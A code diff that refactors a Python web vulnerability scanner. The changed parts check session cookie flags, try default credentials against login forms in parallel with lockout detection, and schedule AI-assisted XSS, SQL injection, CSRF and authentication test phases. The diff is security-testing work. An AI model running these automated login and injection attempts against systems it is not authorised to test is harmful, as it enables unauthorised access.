                 test_log['screenshot'] = screenshot
                 test_log['status'] = 'VULNERABLE'
                 
-                ai_analysis = self.llm.analyze_vulnerability(test_log)
+                ai_analysis = self.main_tester.analyze_vulnerability_async(test_log)
                 test_log['ai_analysis'] = ai_analysis
                 
                 vuln = {
@@ -2051,7 +3447,7 @@ class AdvancedAuthenticationTester:
                     'test_details': test_log
                 }
                 vulnerabilities.append(vuln)
-                self.main_tester.vulnerabilities_found += 1
+                self.main_tester.count_vulnerability()
                 
                 print(f"    🚨 VULNERABLE: No brute force protection!")
             else:
@@ -2065,15 +3461,17 @@ class AdvancedAuthenticationTester:
         
         return vulnerabilities
     
-    def test_session_management_advanced(self, url: str) -> List[Dict]:
+    def test_session_management_advanced(self, url: str, driver=None) -> List[Dict]:
         """Advanced session management testing"""
+        driver = driver or self.driver
         vulnerabilities = []
         
         try:
-            self.driver.get(url)
-            time.sleep(2)
-            
-            cookies = self.driver.get_cookies()
+            # Set-Cookie headers carry every flag checked here, so the browser is only asked
+            # when the server sets none (cookies created by scripts)
+            cookies = self.main_tester.get_response_cookies(url)
+            if not cookies:
+                cookies = self.main_tester.get_site_cookies(url, driver)
             
             if not cookies:
                 print("    ℹ️  No cookies found")
@@ -2081,160 +3479,68 @@ class AdvancedAuthenticationTester:
             
             print(f"    Found {len(cookies)} cookie(s)")
             
-            for cookie in cookies:
+            # Cookie flags don't show on the page, so one screenshot serves every finding
+            page_screenshot = None
+            
+            for cookie_idx, cookie in enumerate(cookies, 1):
                 cookie_name = cookie.get('name', '')
                 
                 # Check if session cookie
-                if any(word in cookie_name.lower() for word in ['session', 'sess', 'token', 'auth', 'sid']):
+                if _SESSION_COOKIE_RE.search(cookie_name):
                     print(f"\n    Analyzing session cookie: {cookie_name}")
                     
-                    cookie_domain = cookie.get('domain', '')
-                    cookie_path = cookie.get('path', '')
-                    cookie_secure = cookie.get('secure', False)
-                    cookie_httponly = cookie.get('httpOnly', False)
-                    cookie_samesite = cookie.get('sameSite', None)
-                    cookie_value_length = len(cookie.get('value', ''))
+                    cookie_details = {
+                        'domain': cookie.get('domain', ''),
+                        'path': cookie.get('path', ''),
+                        'secure': cookie.get('secure', False),
+                        'httpOnly': cookie.get('httpOnly', False),
+                        'sameSite': cookie.get('sameSite', None),
+                        'value_length': len(cookie.get('value', ''))
+                    }
                     
-                    # Test 1: Missing Secure flag
-                    if not cookie_secure:
-                        scenario_id = f"AUTH_SESSION_SECURE_{cookies.index(cookie)+1:03d}"
-                        
-                        test_log = {
-                            'test_type': 'AUTH_SESSION_INSECURE',
-                            'scenario_id': scenario_id,
-                            'target': url,
-                            'cookie_name': cookie_name,
-                            'cookie_domain': cookie_domain,
-                            'cookie_path': cookie_path,
-                            'cookie_secure': cookie_secure,
-                            'cookie_httponly': cookie_httponly,
-                            'cookie_samesite': cookie_samesite,
-                            'cookie_value_length': cookie_value_length,
-                            'is_vulnerable': True,
-                            'vulnerability_type': 'Missing Secure flag'
-                        }
-                        
-                        screenshot = self.main_tester.take_screenshot(scenario_id, 
-                            f"Insecure cookie: {cookie_name}")
-                        test_log['screenshot'] = screenshot
-                        test_log['status'] = 'VULNERABLE'
-                        
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
-                        test_log['ai_analysis'] = ai_analysis
-                        
-                        vuln = {
-                            'type': 'Insecure Session Cookie',
-                            'severity': 'MEDIUM',
-                            'scenario_id': scenario_id,
-                            'location': f'Cookie: {cookie_name}',
-                            'url': url,
-                            'cookie_name': cookie_name,
-                            'cookie_details': {
-                                'domain': cookie_domain,
-                                'path': cookie_path,
-                                'secure': cookie_secure,
-                                'httpOnly': cookie_httponly,
-                                'sameSite': cookie_samesite,
-                                'value_length': cookie_value_length
-                            },
-                            'description': f'Session cookie "{cookie_name}" missing Secure flag',
-                            'proof_of_concept': 'Cookie can be transmitted over HTTP (insecure)',
-                            'screenshot': screenshot,
-                            'ai_analysis': ai_analysis,
-                            'impact': 'Session tokens can be intercepted over insecure HTTP connections (Man-in-the-Middle attack)',
-                            'remediation': 'Set Secure flag on all session cookies to ensure transmission only over HTTPS',
-                            'test_details': test_log
-                        }
-                        vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
+                    for attribute, tag, test_type, screenshot_note, finding in _SESSION_COOKIE_CHECKS:
+                        if cookie_details[attribute]:
+                            continue
                         
-                        print(f"      🚨 Missing Secure flag")
-                        
-                        self.main_tester.log_test_attempt(test_log)
-                    
-                    # Test 2: Missing HttpOnly flag
-                    if not cookie_httponly:
-                        scenario_id = f"AUTH_SESSION_HTTPONLY_{cookies.index(cookie)+1:03d}"
+                        scenario_id = f"AUTH_SESSION_{tag}_{cookie_idx:03d}"
                         
                         test_log = {
-                            'test_type': 'AUTH_SESSION_NO_HTTPONLY',
+                            'test_type': test_type,
                             'scenario_id': scenario_id,
                             'target': url,
                             'cookie_name': cookie_name,
-                            'cookie_details': cookie,
+                            'cookie_details': cookie_details,
                             'is_vulnerable': True,
-                            'vulnerability_type': 'Missing HttpOnly flag'
+                            'vulnerability_type': finding['vulnerability_type'],
+                            'status': 'VULNERABLE'
                         }
                         
-                        screenshot = self.main_tester.take_screenshot(scenario_id, 
-                            f"Cookie accessible via JS: {cookie_name}")
-                        test_log['screenshot'] = screenshot
-                        test_log['status'] = 'VULNERABLE'
-                        
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
-                        test_log['ai_analysis'] = ai_analysis
+                        test_log['ai_analysis'] = finding['ai_analysis']
                         
                         vuln = {
-                            'type': 'Session Cookie Accessible via JavaScript',
-                            'severity': 'MEDIUM',
                             'scenario_id': scenario_id,
                             'location': f'Cookie: {cookie_name}',
                             'url': url,
                             'cookie_name': cookie_name,
-                            'cookie_details': cookie,
-                            'description': f'Session cookie "{cookie_name}" missing HttpOnly flag',
-                            'proof_of_concept': 'Cookie accessible via document.cookie in JavaScript',
-                            'screenshot': screenshot,
-                            'ai_analysis': ai_analysis,
-                            'impact': 'XSS attacks can steal session tokens via JavaScript',
-                            'remediation': 'Set HttpOnly flag on all session cookies to prevent JavaScript access',
+                            'cookie_details': cookie_details,
+                            **finding,
+                            'description': finding['description'].format(cookie_name=cookie_name),
                             'test_details': test_log
                         }
-                        vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
-                        
-                        print(f"      🚨 Missing HttpOnly flag")
-                        
-                        self.main_tester.log_test_attempt(test_log)
-                    
-                    # Test 3: Missing SameSite attribute
-                    if not cookie_samesite:
-                        scenario_id = f"AUTH_SESSION_SAMESITE_{cookies.index(cookie)+1:03d}"
-                        
-                        test_log = {
-                            'test_type': 'AUTH_SESSION_NO_SAMESITE',
-                            'scenario_id': scenario_id,
-                            'target': url,
-                            'cookie_name': cookie_name,
-                            'cookie_details': cookie,
-                            'is_vulnerable': True,
-                            'vulnerability_type': 'Missing SameSite attribute'
-                        }
                         
-                        test_log['status'] = 'VULNERABLE'
-                        
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
-                        test_log['ai_analysis'] = ai_analysis
+                        if screenshot_note:
+                            if page_screenshot is None:
+                                if urlparse(driver.current_url).netloc != urlparse(url).netloc:
+                                    driver.get(url)
+                                    self.main_tester.wait_for_page_ready(driver=driver)
+                                page_screenshot = self.main_tester.take_screenshot(scenario_id, 
+                                    f"{screenshot_note}: {cookie_name}", driver)
+                            test_log['screenshot'] = vuln['screenshot'] = page_screenshot
                         
-                        vuln = {
-                            'type': 'Session Cookie Missing SameSite',
-                            'severity': 'LOW',
-                            'scenario_id': scenario_id,
-                            'location': f'Cookie: {cookie_name}',
-                            'url': url,
-                            'cookie_name': cookie_name,
-                            'cookie_details': cookie,
-                            'description': f'Session cookie "{cookie_name}" missing SameSite attribute',
-                            'proof_of_concept': 'Cookie can be sent in cross-site requests',
-                            'ai_analysis': ai_analysis,
-                            'impact': 'Increases CSRF attack surface, cookie can be sent in cross-origin requests',
-                            'remediation': 'Set SameSite=Strict or SameSite=Lax on all session cookies',
-                            'test_details': test_log
-                        }
                         vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
+                        self.main_tester.count_vulnerability()
                         
-                        print(f"      🚨 Missing SameSite attribute")
+                        print(f"      🚨 {finding['vulnerability_type']}")
                         
                         self.main_tester.log_test_attempt(test_log)
         
@@ -2243,8 +3549,9 @@ class AdvancedAuthenticationTester:
         
         return vulnerabilities
     
-    def test_default_credentials_advanced(self, url: str) -> List[Dict]:
+    def test_default_credentials_advanced(self, url: str, driver=None) -> List[Dict]:
         """Advanced default credentials testing"""
+        driver = driver or self.driver
         vulnerabilities = []
         
         default_creds = [
@@ -2259,8 +3566,96 @@ class AdvancedAuthenticationTester:
         ]
         
         try:
-            for username, password, description in default_creds:
-                scenario_id = f"AUTH_DEFAULT_CREDS_{default_creds.index((username, password, description))+1:03d}"
+            candidates = list(enumerate(default_creds, 1))
+            
+            driver.get(url)
+            username_field = password_field = None
+            
+            try:
+                username_field, password_field = self.main_tester.find_login_fields(driver=driver)
+                login_form = driver.execute_script(_LOGIN_FORM_JS, username_field, password_field)
+            except:
+                login_form = None
+            
+            # Plain form posts are screened over HTTP in parallel; only candidates that look
+            # like a successful login are replayed in the browser for confirmation and a screenshot
+            if login_form:
+                username_xpath, password_xpath = self.main_tester.get_element_xpaths(
+                    [username_field, password_field], driver)
+                form_datas = [
+                    login_form['fields'] + [[login_form['user'], username], [login_form['pass'], password]]
+                    for username, password, description in default_creds
+                ]
+                futures = self.main_tester.submit_all(login_form['action'], login_form['method'], form_datas, driver)
+                
+                candidates = []
+                first_lockout = None
+                for (number, (username, password, description)), future in zip(enumerate(default_creds, 1), futures):
+                    try:
+                        execution_time, current_url, status_code, page_source = future.result()
+                    except Exception:
+                        candidates.append((number, (username, password, description)))
+                        continue
+                    
+                    # Bot challenges answer plain clients with these; only a browser gets a real answer
+                    if status_code in _CHALLENGE_STATUS_CODES:
+                        candidates.append((number, (username, password, description)))
+                        continue
+                    
+                    # A failed login answers at the form's action or sends the client back to the login page
+                    redirected = not (same_page(current_url, login_form['action']) or same_page(current_url, url))
+                    
+                    # A lockout page can mention the account too, so it is ruled out before success
+                    locked_out = status_code == 429 or bool(_LOCKOUT_RESPONSE_RE.search(page_source))
+                    success_found = [] if locked_out or redirected else found_indicators(
+                        _DEFAULT_CREDS_SUCCESS_INDICATORS, _DEFAULT_CREDS_SUCCESS_RE, page_source)
+                    if not locked_out and (redirected or success_found):
+                        candidates.append((number, (username, password, description)))
+                        continue
+                    
+                    if locked_out and first_lockout is None:
+                        first_lockout = number
+                    
+                    print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {username}/{password} (HTTP)")
+                    print(f"        {'🔒 Locked out' if locked_out else '✅ Failed'}")
+                    self.main_tester.log_test_attempt({
+                        'test_type': 'AUTH_DEFAULT_CREDENTIALS',
+                        'scenario_id': f"AUTH_DEFAULT_CREDS_{number:03d}",
+                        'target': url,
+                        'username': username,
+                        'password': password,
+                        'description': description,
+                        'username_xpath': username_xpath,
+                        'password_xpath': password_xpath,
+                        'submitted_via': 'HTTP',
+                        'status_code': status_code,
+                        'execution_time': execution_time,
+                        'current_url': current_url,
+                        'is_vulnerable': False,
+                        'success_indicators_found': success_found,
+                        'status': 'LOCKED_OUT' if locked_out else 'SAFE'
+                    })
+                
+                # Attempts sent after the server started refusing logins can't succeed in the browser either
+                if first_lockout is not None:
+                    print(f"    🔒 Login locked out from attempt {first_lockout}, not replaying later attempts")
+                    for number, (username, password, description) in candidates:
+                        if number > first_lockout:
+                            self.main_tester.log_test_attempt({
+                                'test_type': 'AUTH_DEFAULT_CREDENTIALS',
+                                'scenario_id': f"AUTH_DEFAULT_CREDS_{number:03d}",
+                                'target': url,
+                                'username': username,
+                                'password': password,
+                                'description': description,
+                                'submitted_via': 'HTTP',
+                                'is_vulnerable': False,
+                                'status': 'LOCKED_OUT'
+                            })
+                    candidates = [candidate for candidate in candidates if candidate[0] < first_lockout]
+            
+            for number, (username, password, description) in candidates:
+                scenario_id = f"AUTH_DEFAULT_CREDS_{number:03d}"
                 
                 test_log = {
                     'test_type': 'AUTH_DEFAULT_CREDENTIALS',
@@ -2272,16 +3667,16 @@ class AdvancedAuthenticationTester:
                 }
                 
                 try:
-                    self.driver.get(url)
-                    time.sleep(1)
+                    # The page is only reloaded when a previous attempt navigated away, and the
+                    # fields are only looked up again once the form they belong to is gone
+                    if driver.current_url != url:
+                        driver.get(url)
+                        password_field = None
+                    if password_field is None or EC.staleness_of(password_field)(driver):
+                        username_field, password_field = self.main_tester.find_login_fields(driver=driver)
                     
-                    username_field = self.driver.find_element(By.CSS_SELECTOR, 
-                        'input[name*="user"], input[name*="email"], input[type="email"]')
-                    password_field = self.driver.find_element(By.CSS_SELECTOR, 
-                        'input[type="password"]')
-                    
-                    username_xpath = self.main_tester.get_element_xpath(username_field)
-                    password_xpath = self.main_tester.get_element_xpath(password_field)
+                    username_xpath, password_xpath = self.main_tester.get_element_xpaths(
+                        [username_field, password_field], driver)
                     
                     test_log['username_xpath'] = username_xpath
                     test_log['password_xpath'] = password_xpath
@@ -2293,32 +3688,37 @@ class AdvancedAuthenticationTester:
                     password_field.clear()
                     password_field.send_keys(password)
                     
-                    start_time = time.time()
+                    old_url = driver.current_url
+                    start_time = time.perf_counter_ns()
                     password_field.submit()
-                    time.sleep(2)
-                    execution_time = time.time() - start_time
+                    self.main_tester.wait_after_submit(old_url, driver=driver, element=password_field)
+                    execution_time = elapsed_seconds(start_time)
                     
                     test_log['execution_time'] = execution_time
                     
-                    current_url = self.driver.current_url
-                    page_source = self.driver.page_source.lower()
+                    current_url = driver.current_url
                     
-                    # Check for successful login
-                    success_indicators = ['dashboard', 'welcome', 'logout', 'profile', 'account']
-                    is_successful = (current_url != url or 
-                                   any(indicator in page_source for indicator in success_indicators))
+                    # Check for successful login; a redirect already counts, so the page is only read otherwise
+                    if current_url != url:
+                        page_source = ''
+                        success_found = []
+                    else:
+                        page_source = self.main_tester.get_page_source_lower(driver)
+                        success_found = found_indicators(_DEFAULT_CREDS_SUCCESS_INDICATORS, _DEFAULT_CREDS_SUCCESS_RE, page_source)
+                    locked_out = bool(_LOCKOUT_RESPONSE_RE.search(page_source))
+                    is_successful = not locked_out and (current_url != url or bool(success_found))
                     
                     test_log['current_url'] = current_url
                     test_log['is_vulnerable'] = is_successful
-                    test_log['success_indicators_found'] = [ind for ind in success_indicators if ind in page_source]
+                    test_log['success_indicators_found'] = success_found
                     
                     if is_successful:
                         screenshot = self.main_tester.take_screenshot(scenario_id, 
-                            f"Default creds work: {username}/{password}")
+                            f"Default creds work: {username}/{password}", driver)
                         test_log['screenshot'] = screenshot
                         test_log['status'] = 'VULNERABLE'
                         
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
+                        ai_analysis = self.main_tester.analyze_vulnerability_async(test_log)
                         test_log['ai_analysis'] = ai_analysis
                         
                         vuln = {
@@ -2349,10 +3749,13 @@ class AdvancedAuthenticationTester:
                             'test_details': test_log
                         }
                         vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
+                        self.main_tester.count_vulnerability()
                         
                         print(f"        🚨 CRITICAL: Default credentials work!")
                         break  # Found working credentials
+                    elif locked_out:
+                        test_log['status'] = 'LOCKED_OUT'
+                        print(f"        🔒 Locked out, skipping remaining credentials")
                     else:
                         test_log['status'] = 'SAFE'
                         print(f"        ✅ Failed")
@@ -2363,6 +3766,9 @@ class AdvancedAuthenticationTester:
                     print(f"        ❌ Error: {e}")
                 
                 self.main_tester.log_test_attempt(test_log)
+                
+                if test_log['status'] == 'LOCKED_OUT':
+                    break
         
         except Exception as e:
             print(f"    ❌ Error testing default credentials: {e}")
@@ -2398,22 +3804,40 @@ def main():
         'auth': []
     }
     
+    # Authentication only uses pooled browsers, so it runs alongside the CSRF phase on tester.driver
+    phase_executor = ThreadPoolExecutor(max_workers=1)
+    
     try:
-        # XSS Testing
+        # One warm-up load; pool browsers start with the session cookies it set
+        tester.driver.get(url)
+        tester.wait_for_page_ready()
+        tester.share_session()
+        tester.driver_pool.prewarm()
+        
         xss_tester = AdvancedXSSTester(tester.driver, tester.llm, tester)
-        all_vulnerabilities['xss'] = xss_tester.test_url(url)
+        sql_tester = AdvancedSQLInjectionTester(tester.driver, tester.llm, tester)
+        
+        # Start AI scenario generation for XSS and SQLi up front so it overlaps browser work
+        xss_future = tester.llm.prefetch_scenarios(xss_tester.collect_element_infos(url), "XSS")
+        sqli_future = tester.llm.prefetch_scenarios(sql_tester.collect_element_infos(url), "SQL_INJECTION")
+        
+        # XSS Testing
+        all_vulnerabilities['xss'] = xss_tester.test_url(url, scenarios_future=xss_future)
         
         # SQL Injection Testing
-        sql_tester = AdvancedSQLInjectionTester(tester.driver, tester.llm, tester)
-        all_vulnerabilities['sql_injection'] = sql_tester.test_url(url)
+        all_vulnerabilities['sql_injection'] = sql_tester.test_url(url, scenarios_future=sqli_future)
+        
+        # Started only now so its login attempts don't race the SQLi login payloads for the
+        # lockout counter, and the pool is free again
+        auth_tester = AdvancedAuthenticationTester(tester.driver, tester.llm, tester)
+        auth_future = phase_executor.submit(auth_tester.test_url, url)
         
         # CSRF Testing
         csrf_tester = AdvancedCSRFTester(tester.driver, tester.llm, tester)
         all_vulnerabilities['csrf'] = csrf_tester.test_url(url)
         
         # Authentication Testing
-        auth_tester = AdvancedAuthenticationTester(tester.driver, tester.llm, tester)
-        all_vulnerabilities['auth'] = auth_tester.test_url(url)
+        all_vulnerabilities['auth'] = auth_future.result()
         
     except KeyboardInterrupt:
         print("\n\n⚠️  Scan interrupted by user")
@@ -2422,16 +3846,17 @@ def main():
         import traceback
         traceback.print_exc()
     finally:
+        # Don't wait on an interrupted auth phase; closing the browsers ends it
+        phase_executor.shutdown(wait=False)
         tester.close_browser()
+        tester.flush_logs()
     
     duration = time.time() - start_time
     
     # Calculate statistics
     total_vulns = sum(len(v) for v in all_vulnerabilities.values())
-    critical = sum(1 for cat in all_vulnerabilities.values() for v in cat if v.get('severity') == 'CRITICAL')
-    high = sum(1 for cat in all_vulnerabilities.values() for v in cat if v.get('severity') == 'HIGH')
-    medium = sum(1 for cat in all_vulnerabilities.values() for v in cat if v.get('severity') == 'MEDIUM')
-    low = sum(1 for cat in all_vulnerabilities.values() for v in cat if v.get('severity') == 'LOW')
+    severities = Counter(v.get('severity') for cat in all_vulnerabilities.values() for v in cat)
+    critical, high, medium, low = (severities[s] for s in ('CRITICAL', 'HIGH', 'MEDIUM', 'LOW'))
     
     print(f"\n{'='*80}")
     print(f"✅ SCAN COMPLETE!")
@@ -2439,13 +3864,14 @@ def main():
     print(f"  Target: {url}")
     print(f"  Duration: {duration:.2f}s ({duration/60:.1f} minutes)")
     print(f"  Total tests run: {tester.test_counter}")
+    print(f"  Duplicate scenarios skipped: {tester.duplicate_scenarios_skipped}")
     print(f"  Vulnerabilities found: {total_vulns}")
     print(f"    🔴 Critical: {critical}")
     print(f"    🟠 High: {high}")
     print(f"    🟡 Medium: {medium}")
     print(f"    🟢 Low: {low}")
     print(f"\n  📁 Files generated:")
-    print(f"    • Detailed logs: detailed_logs/ ({tester.test_counter} files)")
+    print(f"    • Detailed logs: {tester.log_file} ({tester.test_counter} entries)")
     print(f"    • Screenshots: screenshots/")
     print(f"    • CSRF PoCs: csrf_poc_*.html")
     print(f"{'='*80}")
@@ -2463,7 +3889,8 @@ def main():
             'scan_start': datetime.fromtimestamp(start_time).isoformat(),
             'scan_end': datetime.now().isoformat(),
             'duration_seconds': duration,
-            'total_tests': tester.test_counter
+            'total_tests': tester.test_counter,
+            'duplicate_scenarios_skipped': tester.duplicate_scenarios_skipped
         },
         'summary': {
             'total_vulnerabilities': total_vulns,
@@ -2472,12 +3899,15 @@ def main():
             'medium': medium,
             'low': low
         },
-        'vulnerabilities': all_vulnerabilities,
+        'vulnerabilities': {
+            category: [report_finding(vuln) for vuln in vulns]
+            for category, vulns in all_vulnerabilities.items()
+        },
         'all_test_attempts': tester.results['all_tests']
     }
     
-    with open(json_filename, 'w') as f:
-        json.dump(json_report, f, indent=2)
+    write_json_report(json_filename, json_report)
+    write_html_report(report_filename, json_report, all_vulnerabilities)
     
     print(f"  ✅ JSON report saved: {json_filename}")
     print(f"  ✅ HTML report saved: {report_filename}")